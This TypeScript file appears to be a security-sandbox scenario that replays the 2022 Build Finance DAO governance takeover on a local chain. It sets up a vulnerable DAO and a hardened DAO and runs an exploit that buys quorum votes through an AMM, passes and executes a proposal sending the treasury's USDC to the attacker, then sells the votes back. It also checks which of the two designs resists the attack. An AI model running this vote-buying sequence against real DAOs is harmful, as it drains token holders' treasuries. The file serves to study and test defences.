import { id, MaxUint256, ZeroAddress } from "ethers";

import { CLAIM_PERIOD } from "../../ignition/modules/Airdrop.js";
import {
  PROPOSAL_THRESHOLD,
  QUORUM_PERCENT,
  TIMELOCK_DELAY,
  VOTING_DELAY,
  VOTING_PERIOD,
} from "../../ignition/modules/Governance.js";
import { sandboxAirdrop } from "../pure/airdrop.js";
import {
  AmmRouter__factory,
  GovernanceToken__factory,
  MerkleDistributor__factory,
  MockERC20__factory,
  SandboxGovernor__factory,
  SandboxTimelock__factory,
  type AmmRouter,
  type GovernanceToken,
  type MockERC20,
  type SandboxGovernor,
} from "../../typechain-types/index.js";
import { formatAmount } from "./format.js";
import { proposalStateName, type ProposalStateName } from "../pure/governor.js";
import { measureTracked } from "./measure.js";
import { commonChecks } from "./run.js";
import { send } from "./steps.js";
import type { Check, Scenario, World } from "./types.js";

const ONE = 10n ** 18n;
const USDC_UNIT = 10n ** 6n;

/** The DAO's treasury on both sides: what a passed proposal can send anywhere. */
export const TAKEOVER_TREASURY = 500_000n * USDC_UNIT;
/** The most the attacker spends on votes, in USDC. */
export const TAKEOVER_BUDGET = 60_000n * USDC_UNIT;
/**
 * The vulnerable DAO's token: a million, 80% in its own treasury (which never votes), 150,000 in a
 * BLD/USDC pool at $1, 50,000 with two holders who never delegated; a quorum of 4% of the supply.
 */
export const BLD = {
  supply: 1_000_000n * ONE,
  treasury: 800_000n * ONE,
  pool: 150_000n * ONE,
  holders: { carol: 25_000n * ONE, dave: 25_000n * ONE },
  quorumPercent: 4n,
} as const;
/** On the hardened side bob sells part of his airdrop into a thin SGOV/USDC pool at $1. */
export const SGOV_POOL = 2_000n * ONE;
const DESCRIPTION = "Pay the treasury to the new core team";
export interface TakeoverWorld extends World {
  token: GovernanceToken;
  governor: SandboxGovernor;
  usdc: MockERC20;
  router: AmmRouter;
  /** The timelock that holds the treasury and executes what passes. */
  treasury: string;
  /** The token/USDC pool the votes are bought in. */
  pair: string;
  /** Filled in by the exploit: the votes the attacker bought and the quorum they faced. */
  votes: { bought: bigint; quorum: bigint; state: ProposalStateName } | null;
}

/** Creates the token/USDC pool through the router and seeds it from `provider` at $1. */
async function seedPool(
  world: Pick<TakeoverWorld, "router" | "usdc" | "env">,
  token: GovernanceToken,
  provider: World["attacker"],
  amount: bigint,
): Promise<void> {
  const { router, usdc } = world;
  const usdcAmount = (amount * USDC_UNIT) / ONE;
  const routerAddress = await router.getAddress();
  await send(usdc.faucet(provider.address, usdcAmount));
  await send(token.connect(provider).approve(routerAddress, amount));
  await send(usdc.connect(provider).approve(routerAddress, usdcAmount));
  await send(
    router
      .connect(provider)
      .addLiquidity(
        await token.getAddress(),
        await usdc.getAddress(),
        amount,
        usdcAmount,
        0n,
        0n,
        provider.address,
        MaxUint256,
      ),
  );
}

/** A governor and timelock with the sandbox's settings over a fresh governance token. */
async function deployDao(env: World["env"], quorumPercent: bigint) {
  const { deployer } = env.actors;
  const token = await new GovernanceToken__factory(deployer).deploy(deployer.address);
  await token.waitForDeployment();
  const timelock = await new SandboxTimelock__factory(deployer).deploy(
    TIMELOCK_DELAY,
    [],
    [ZeroAddress],
    deployer.address,
  );
  await timelock.waitForDeployment();
  const treasury = await timelock.getAddress();
  const governor = await new SandboxGovernor__factory(deployer).deploy(
    await token.getAddress(),
    treasury,
    VOTING_DELAY,
    VOTING_PERIOD,
    PROPOSAL_THRESHOLD,
    quorumPercent,
  );
  await governor.waitForDeployment();
  const governorAddress = await governor.getAddress();
  await send(timelock.grantRole(await timelock.PROPOSER_ROLE(), governorAddress));
  await send(timelock.grantRole(await timelock.CANCELLER_ROLE(), governorAddress));
  await send(timelock.renounceRole(await timelock.DEFAULT_ADMIN_ROLE(), deployer.address));
  return { token, governor, treasury };
}

/**
 * A DAO whose votes one buyer can reach: most of the supply sits in its own treasury, the rest is
 * held by people who never vote, and the quorum is 4% of the supply. The attacker buys the quorum in
 * the open market, passes "pay the treasury to me" and sells the votes back.
 */
export const governanceTakeover: Scenario<TakeoverWorld> = {
  name: "governance-takeover",
  title: "Governance takeover: votes bought in the market pass a proposal that pays the attacker",
  incident:
    "Build Finance DAO, 2022-02-14: ~$470k; an attacker gathered enough BUILD to pass its own proposal, took control of the token's minting and the treasury, and sold",
  fix: "the sandbox's distribution (no supply in one hand, an airdrop of holders who vote) and its 25% quorum",

  async setup(env, side) {
    const { actors, sandbox, log } = env;
    const { deployer, attacker } = actors;
    const usdc = MockERC20__factory.connect(await sandbox.usdc.getAddress(), deployer);
    const router = AmmRouter__factory.connect(await sandbox.router.getAddress(), deployer);
    const quorumPercent = side === "vulnerable" ? BLD.quorumPercent : QUORUM_PERCENT;
    const { token, governor, treasury } = await deployDao(env, quorumPercent);
    await send(token.grantRole(await token.MINTER_ROLE(), deployer.address));
    let contract: string;

    if (side === "vulnerable") {
      await send(token.mint(treasury, BLD.treasury));
      await send(token.mint(deployer.address, BLD.pool));
      for (const name of ["carol", "dave"] as const) {
        await send(token.mint(actors[name].address, BLD.holders[name]));
      }
      await seedPool({ router, usdc, env }, token, deployer, BLD.pool);
      log(
        `  a DAO token of ${formatAmount(BLD.supply, 18, "votes")}: 80% in the DAO's treasury, 15% in a pool at $1, 5% with carol and dave, who never delegated; quorum ${BLD.quorumPercent}%`,
      );
      contract = "SandboxGovernor, 4% quorum; 80% of the votes in the treasury, holders asleep";
    } else {
      // The sandbox's own distribution, deployed afresh so that it does not depend on what earlier
      // scenarios did to the chain's clock: the airdrop minted straight to its distributor, claimed.
      const airdrop = sandboxAirdrop();
      const distributor = await new MerkleDistributor__factory(deployer).deploy(
        await token.getAddress(),
        airdrop.root,
        CLAIM_PERIOD,
        treasury,
      );
      await distributor.waitForDeployment();
      await send(token.mint(await distributor.getAddress(), airdrop.total));
      for (const name of ["alice", "bob", "carol", "dave", "whale"] as const) {
        const claim = airdrop.claims.find((c) => c.account === actors[name].address);
        if (claim === undefined) throw new Error(`no airdrop claim for ${name}`);
        await send(distributor.claim(claim.index, claim.account, claim.amount, claim.proof));
        await send(token.connect(actors[name]).delegate(actors[name].address));
      }
      await seedPool({ router, usdc, env }, token, actors.bob, SGOV_POOL);
      log(
        `  the sandbox's SGOV distribution: alice, bob, carol, dave and the whale claim their airdrop and delegate; bob puts ${formatAmount(SGOV_POOL, 18, "SGOV")} in a pool at $1; quorum ${QUORUM_PERCENT}%`,
      );
      contract = "the sandbox's SGOV distribution + SandboxGovernor (25% quorum) + timelock";
    }
    // Nobody mints again: the deployer keeps no role, as in the sandbox's handover.
    await send(token.renounceRole(await token.MINTER_ROLE(), deployer.address));
    await send(usdc.faucet(treasury, TAKEOVER_TREASURY));
    log(`  the DAO's timelock holds ${formatAmount(TAKEOVER_TREASURY, 6, "USDC")}`);
    const pair = await sandbox.factory.getPair(await token.getAddress(), await usdc.getAddress());

    return {
      side,
      env,
      attacker,
      contract,
      token,
      governor,
      usdc,
      router,
      treasury,
      pair,
      votes: null,
      tracked: {
        asset: { kind: "erc20", symbol: "USDC", decimals: 6, token: usdc },
        attacker: [attacker.address],
        // The treasury is the token holders' money: its loss is theirs.
        victims: [treasury],
        protocol: treasury,
        victimsClaims: 0n,
        dust: 0n,
      },
      errorInterfaces: [governor.interface, router.interface, token.interface],
    };
  },

  async exploit(world) {
    const { attacker, governor, token, usdc, router, treasury, env } = world;
    const { networkHelpers, log } = env;
    const routerAddress = await router.getAddress();
    const path = [await usdc.getAddress(), await token.getAddress()];

    // Buy the quorum and 1% more, or as much as the budget buys.
    const clock = await governor.clock();
    const quorum = await governor.quorum(clock - 1n);
    const want = (quorum * 101n) / 100n;
    let spend = TAKEOVER_BUDGET;
    let exact = false;
    if (want < (await token.balanceOf(world.pair))) {
      const [needed] = await router.getAmountsIn(want, path);
      if (needed <= spend) [spend, exact] = [needed, true];
    }
    await send(usdc.connect(attacker).approve(routerAddress, spend));
    await send(
      exact
        ? router
            .connect(attacker)
            .swapTokensForExactTokens(want, spend, path, attacker.address, MaxUint256)
        : router
            .connect(attacker)
            .swapExactTokensForTokens(spend, 0n, path, attacker.address, MaxUint256),
    );
    const bought = await token.balanceOf(attacker.address);
    log(
      `  the attacker buys ${formatAmount(bought, 18, "votes")} for ${formatAmount(spend, 6, "USDC")} (quorum: ${formatAmount(quorum, 18, "votes")})`,
    );
    await send(token.connect(attacker).delegate(attacker.address));
    await networkHelpers.mine(1);

    const loot = await usdc.balanceOf(treasury);
    const targets = [await usdc.getAddress()];
    const calldatas = [usdc.interface.encodeFunctionData("transfer", [attacker.address, loot])];
    await send(governor.connect(attacker).propose(targets, [0n], calldatas, DESCRIPTION));
    const proposalId = await governor.hashProposal(targets, [0n], calldatas, id(DESCRIPTION));
    await networkHelpers.mine(VOTING_DELAY + 1n);
    await send(governor.connect(attacker).castVote(proposalId, 1));
    await networkHelpers.mine(VOTING_PERIOD);
    const state = proposalStateName(await governor.state(proposalId));
    world.votes = {
      bought,
      quorum: await governor.quorum(await governor.proposalSnapshot(proposalId)),
      state,
    };
    log(`  "${DESCRIPTION}": ${state}`);
    if (state === "Succeeded") {
      await send(governor.queue(targets, [0n], calldatas, id(DESCRIPTION)));
      await networkHelpers.time.increase(TIMELOCK_DELAY);
      await send(governor.connect(attacker).execute(targets, [0n], calldatas, id(DESCRIPTION)));
      log(`  an hour later the attacker executes it: the treasury's USDC is the attacker's`);
    }

    // Either way, the votes go back to the market.
    await send(token.connect(attacker).approve(routerAddress, bought));
    await send(
      router
        .connect(attacker)
        .swapExactTokensForTokens(bought, 0n, [...path].reverse(), attacker.address, MaxUint256),
    );
    log(`  the attacker sells the votes back`);
  },

  async settle() {},

  measure(world, sinceBlock) {
    return measureTracked(world.env.ethers, world.tracked, sinceBlock);
  },

  check(result, world) {
    const checks: Check[] = commonChecks(result, world);
    const votes = world.votes;
    if (votes === null) return checks;
    const shown = `${formatAmount(votes.bought, 18, "votes")} bought, quorum ${formatAmount(votes.quorum, 18, "votes")}`;
    if (world.side === "vulnerable") {
      return [
        ...checks,
        { ok: votes.bought >= votes.quorum, message: `one buyer reaches the quorum (${shown})` },
      ];
    }
    return [
      ...checks,
      {
        ok: votes.bought < votes.quorum,
        message: `the budget buys less than the quorum (${shown})`,
      },
      { ok: votes.state === "Defeated", message: `the proposal is defeated (${votes.state})` },
    ];
  },
};
